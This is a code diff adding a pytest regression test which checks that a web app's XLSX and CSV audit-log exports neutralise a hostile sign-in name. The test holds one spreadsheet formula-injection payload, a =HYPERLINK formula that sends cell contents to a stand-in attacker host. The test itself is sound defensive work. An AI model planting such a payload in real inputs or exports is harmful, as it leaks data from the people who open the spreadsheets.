@@ -130,3 +130,18 @@ def test_the_audit_log_cannot_be_rewritten(office):
         with pytest.raises(sa.exc.DatabaseError), office.store.engine.begin() as conn:
             conn.execute(sa.text(statement))
     assert office.store.audit_entries()[-1]["outcome"] == "ok"
+
+
+def test_a_hostile_sign_in_name_is_no_formula_in_the_audit_exports(office):
+    """The red-team signed in as =HYPERLINK(...) without an account: it came out as a live formula."""
+    import csv
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    office.client().post("/office/login", data={"name": hostile, "password": "x"})
+    auditor = office.sign_in("shenji")
+    book = openpyxl.load_workbook(io.BytesIO(auditor.get("/office/audit.xlsx").data))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert any(cell.value == hostile for cell in cells) and all(cell.data_type != "f" for cell in cells)
+    text = auditor.get("/office/audit.csv").data.decode("utf-8-sig")
+    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
+    assert "'" + hostile in values and hostile not in values
